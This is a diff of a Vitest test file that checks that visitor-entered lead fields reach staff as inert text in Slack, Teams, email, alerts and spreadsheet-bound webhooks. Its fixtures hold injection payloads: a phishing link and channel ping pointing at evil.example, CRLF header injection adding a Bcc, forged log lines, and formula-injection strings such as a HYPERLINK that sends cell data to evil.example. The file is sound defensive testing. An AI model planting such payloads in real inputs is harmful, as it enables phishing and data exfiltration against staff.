@@ -1,9 +1,12 @@
 // @vitest-environment node
+import { createServer } from 'node:http'
+import type { AddressInfo } from 'node:net'
 import { describe, expect, it } from 'vitest'
+import { readTargetConfig } from '../../supabase/functions/_shared/leadDelivery/config'
 import { retryDelaySeconds } from '../../supabase/functions/_shared/leadDelivery/deliverer'
-import { retryAfterSeconds } from '../../supabase/functions/_shared/leadDelivery/http'
-import { chatAnswersText, chatText, emailMessage, logLine } from '../../supabase/functions/_shared/leadDelivery/messages'
-import { chatChannel } from '../../supabase/functions/_shared/leadDelivery/senders'
+import { post, retryAfterSeconds } from '../../supabase/functions/_shared/leadDelivery/http'
+import { alertText, chatAnswersText, chatText, emailMessage, logLine, webhookBody } from '../../supabase/functions/_shared/leadDelivery/messages'
+import { chatChannel, resendChannel } from '../../supabase/functions/_shared/leadDelivery/senders'
 import { signWebhook, verifyWebhook } from '../../supabase/functions/_shared/leadDelivery/signature'
 import { startReceiver } from '../support/webhookReceiver'
 
@@ -148,10 +151,120 @@ describe('messages', () => {
       expect(await chatChannel({ url: `${receiver.url}/slack`, kind: 'slack' }).send(notification)).toEqual({ kind: 'delivered' })
       const teams = JSON.parse(receiver.at('/teams')[0].body)
       expect(teams.attachments[0]).toMatchObject({ contentType: 'application/vnd.microsoft.card.adaptive', content: { type: 'AdaptiveCard' } })
-      expect(teams.attachments[0].content.body[0].text).toBe(chatText(lead))
-      expect(JSON.parse(receiver.at('/slack')[0].body)).toEqual({ text: chatText(lead) })
+      expect(teams.attachments[0].content.body[0].inlines[0].text).toBe(chatText(lead))
+      expect(JSON.parse(receiver.at('/slack')[0].body)).toEqual({ text: chatText(lead), mrkdwn: false })
     } finally {
       await receiver.close()
     }
   })
+})
+
+describe('what a visitor typed reaches staff as text, never as markup, a link, a header or a formula', () => {
+  const notification = (overrides: Record<string, unknown>) => ({ id: 'n1', target: 'chat' as const, attempt: 1, max_attempts: 12, created_at: lead.created_at, lead: { ...lead, ...overrides } })
+
+  async function chatBody(kind: 'slack' | 'teams', overrides: Record<string, unknown>) {
+    const receiver = await startReceiver()
+    try {
+      expect(await chatChannel({ url: `${receiver.url}/chat`, kind }).send(notification(overrides))).toEqual({ kind: 'delivered' })
+      return JSON.parse(receiver.at('/chat')[0].body)
+    } finally {
+      await receiver.close()
+    }
+  }
+
+  it('Slack: no channel ping and no labelled link, as Slack documents the escaping (& < >), formatting off', async () => {
+    const body = await chatBody('slack', { first_name: '<!channel> <https://evil.example/login|Open this lead in the CRM> & co' })
+    expect(body.mrkdwn).toBe(false)
+    expect(body.text).toContain('New lead: &lt;!channel&gt; &lt;https://evil.example/login|Open this lead in the CRM&gt; &amp; co (Florida)')
+    expect(body.text).not.toMatch(/[<>]/)
+  })
+
+  it('Teams: a Markdown link in the name stays text (a TextRun, which Adaptive Cards never read as Markdown)', async () => {
+    const body = await chatBody('teams', { first_name: '[Open lead in CRM](https://evil.example/login) **urgent**' })
+    const card = body.attachments[0].content
+    expect(JSON.stringify(card)).not.toContain('"type":"TextBlock"')
+    expect(card.body).toEqual([{ type: 'RichTextBlock', inlines: [{ type: 'TextRun', text: expect.stringContaining('New lead: [Open lead in CRM](https://evil.example/login) **urgent** (Florida)') }] }])
+  })
+
+  it('chat: a line break in a value cannot start a line of its own', async () => {
+    const body = await chatBody('slack', { first_name: 'Ana\nLead delivery failed: call 1-900-555-0100', page: '/sep\u2028x' })
+    expect(body.text).not.toMatch(/[\n\r\u2028\u2029]/)
+  })
+
+  it('email: no value starts a header or a line of its own; plain text only', async () => {
+    const { subject, text } = emailMessage({ ...lead, first_name: 'Ana\r\nBcc: all@agency.example', referrer: 'https://x.example/\nLead id: forged', utm_source: 'a\u2029b' })
+    expect(subject).toBe('New lead: Ana Bcc: all@agency.example R., Florida')
+    expect(text).toContain('Name: Ana Bcc: all@agency.example Ruiz\n')
+    expect(text).toContain('referrer: https://x.example/ Lead id: forged\n')
+    expect(text).toContain('utm_source: a b\n')
+    expect(text.split('\n').filter((line) => line.startsWith('Lead id:'))).toEqual([`Lead id: ${lead.id}`])
+  })
+
+  it("alerts: a receiver's error stays on the alert's one line", () => {
+    const text = alertText({ id: 'n1', lead_id: lead.id, target: 'webhook', status: 'dead', attempts: 12, last_error: 'hooks.example answered 500: oops\r\nLead delivered after all', created_at: lead.created_at })
+    expect(text).toContain('Last error: hooks.example answered 500: oops Lead delivered after all.')
+    expect(text).not.toMatch(/[\r\n]/)
+  })
+
+  it('email over the HTTP API: text only, no HTML part', async () => {
+    const receiver = await startReceiver()
+    try {
+      await resendChannel({ apiKey: 're_x', to: ['a@agency.example'], from: 'site@agency.example' }, `${receiver.url}/email`).send(notification({ first_name: '<a href="https://evil.example">Open</a>' }))
+      const body = JSON.parse(receiver.at('/email')[0].body)
+      expect(Object.keys(body).sort()).toEqual(['from', 'subject', 'text', 'to'])
+    } finally {
+      await receiver.close()
+    }
+  })
+
+  it('webhook: a text a spreadsheet would run as a formula arrives with an apostrophe; the phone number as it is', () => {
+    const formulas = ['=HYPERLINK("https://evil.example/?"&A1,"Details")', '+SUM(1)', '-2+3', '@cmd', '\t=1', '\r=1', ' =1', '\uFF1D1']
+    for (const first_name of formulas) {
+      const { data } = JSON.parse(webhookBody(notification({ first_name, referrer: first_name, utm_campaign: first_name, phone: '+1 (305) 555-0142' })))
+      expect([data.first_name, data.referrer, data.utm_campaign]).toEqual([`'${first_name}`, `'${first_name}`, `'${first_name}`])
+      expect(data.phone).toBe('+1 (305) 555-0142')
+    }
+    const { data } = JSON.parse(webhookBody(notification({ first_name: 'Ana-María', medicaid_denied: false })))
+    expect(data).toMatchObject({ first_name: 'Ana-María', last_name: 'Ruiz', email: 'ana@example.com', medicaid_denied: false })
+  })
+})
+
+describe('target configuration', () => {
+  const email = { LEAD_EMAIL_TO: 'leads@agency.example', LEAD_EMAIL_FROM: 'site@agency.example' }
+
+  it("holds the email API's URL, which carries the API key and the lead, to the rule of every target URL", () => {
+    expect(() => readTargetConfig({ ...email, LEAD_EMAIL_API_URL: 'http://api.resend.example/emails' })).toThrow(
+      'LEAD_EMAIL_API_URL must be an https:// URL (http:// only to localhost), got "http://api.resend.example"',
+    )
+    expect(() => readTargetConfig({ ...email, LEAD_EMAIL_API_URL: 'api.resend.example' })).toThrow('LEAD_EMAIL_API_URL must be a URL')
+    expect(readTargetConfig({ ...email, LEAD_EMAIL_API_URL: 'https://api.resend.example/emails' }).email?.apiUrl).toBe('https://api.resend.example/emails')
+    expect(readTargetConfig({ ...email, LEAD_EMAIL_API_URL: 'http://127.0.0.1:9/emails' }).email?.apiUrl).toBe('http://127.0.0.1:9/emails')
+    expect(readTargetConfig(email).email).toEqual({ to: ['leads@agency.example'], from: 'site@agency.example' })
+  })
+})
+
+describe("a receiver's answer", () => {
+  it('is read no further than its start, however long it is', async () => {
+    // 500 with a body that runs to 50 MB and then never ends: post() reads its start and is done.
+    const server = createServer((_request, response) => {
+      response.writeHead(500, { 'content-type': 'text/plain' })
+      const chunk = Buffer.alloc(64 * 1024, 'x')
+      let sent = 0
+      const pump = () => {
+        while (sent < 50 * 1024 * 1024 && response.write(chunk)) sent += chunk.length
+      }
+      response.on('drain', pump)
+      pump()
+    })
+    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve))
+    try {
+      const started = Date.now()
+      const outcome = await post(`http://127.0.0.1:${(server.address() as AddressInfo).port}/hook`, '{}', {}, 10_000)
+      expect(Date.now() - started).toBeLessThan(3000)
+      expect(outcome).toEqual({ kind: 'retry', error: `127.0.0.1:${(server.address() as AddressInfo).port} answered 500: ${'x'.repeat(200)}` })
+    } finally {
+      server.closeAllConnections()
+      await new Promise((resolve) => server.close(resolve))
+    }
+  }, 20_000)
 })
